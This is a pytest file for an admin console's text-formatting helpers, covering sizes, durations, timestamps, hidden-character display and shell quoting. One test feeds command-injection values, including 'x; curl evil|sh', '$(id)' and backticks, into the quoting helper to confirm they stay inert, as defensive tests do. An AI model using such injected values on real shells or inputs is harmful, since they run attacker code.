from __future__ import annotations

import shlex

import pytest

from app.http.console.texts.formats import ago, duration, instant, many, number, readable, setting, shell, size


@pytest.mark.parametrize(
    ("count", "text"),
    [(0, "0 B"), (1023, "1023 B"), (1024, "1.0 KiB"), (3_328_599_655, "3.1 GiB"), (150 * 2**20, "150 MiB")],
)
def test_a_size_is_in_units_of_1024(count: int, text: str) -> None:
    assert size(count) == text


@pytest.mark.parametrize(
    ("ms", "text"), [(0, "0 ms"), (999, "999 ms"), (1_500, "1.5 s"), (90_000, "1.5 min"), (604_800_000, "7 d")]
)
def test_a_duration_is_in_its_largest_unit(ms: int, text: str) -> None:
    assert duration(ms) == text


def test_numbers_have_groups_and_nouns() -> None:
    assert (number(336_776), many(1, "topic"), many(1_200, "topic"), many(0, "entry", "entries")) == (
        "336,776",
        "1 topic",
        "1,200 topics",
        "0 entries",
    )


def test_a_timestamp_is_shown_in_utc_whatever_it_is() -> None:
    assert instant(1_372_636_800_007) == "2013-07-01 00:00:00.007"
    assert instant(-1) == ""
    assert instant(2**62) == f"{2**62} ms"
    assert (ago(5_000, 5_400), ago(0, 7_200_000), ago(10_000, 0)) == ("now", "2 h ago", "in 10 s")
    assert (ago(0, 86_400_000 * 700), ago(0, 86_400_000 * 5081)) == ("700 d ago", "14 years ago")


def test_hidden_characters_are_named() -> None:
    assert readable("a\u202eb\x00\u200bc\n") == "a⟨202E⟩b⟨0000⟩⟨200B⟩c\n"
    assert readable("Grüße 冰 🧊") == "Grüße 冰 🧊"


def test_a_long_text_of_hidden_characters_is_named_in_steps() -> None:
    text = "\x01a\u200b" * 100_000
    steps = readable.steps(text)
    assert sum(1 for _ in steps) >= 9
    assert readable(text) == "⟨0001⟩a⟨200B⟩" * 100_000


def test_a_command_quotes_names_for_a_shell() -> None:
    assert shell("firn group describe {}", "team.a") == "firn group describe team.a"
    for name in ("x; curl evil|sh", "$(id)", "`id`", "a'b", "{}", ""):
        assert shlex.split(shell("firn group describe {} --all", name)) == ["firn", "group", "describe", name, "--all"]


@pytest.mark.parametrize("name", ["x\nid", "x\rid", "x\x1b[201~", "x\u202ey", "x\u2028y", "--help"])
def test_there_is_no_command_for_a_name_that_does_not_show_its_effect(name: str) -> None:
    assert shell("firn group describe {}", name) == ""


@pytest.mark.parametrize(
    ("name", "value", "text"),
    [
        ("retention.ms", "604800000", "7 d"),
        ("retention.ms", "-1", "without a limit"),
        ("segment.bytes", "1073741824", "1.0 GiB"),
        ("cleanup.policy", "delete", ""),
        ("min.insync.replicas", "1", ""),
        ("retention.ms", None, ""),
        ("retention.ms", "9" * 40, ""),
    ],
)
def test_the_value_of_a_setting_has_its_unit_in_words(name: str, value: str | None, text: str) -> None:
    assert setting(name, value) == text
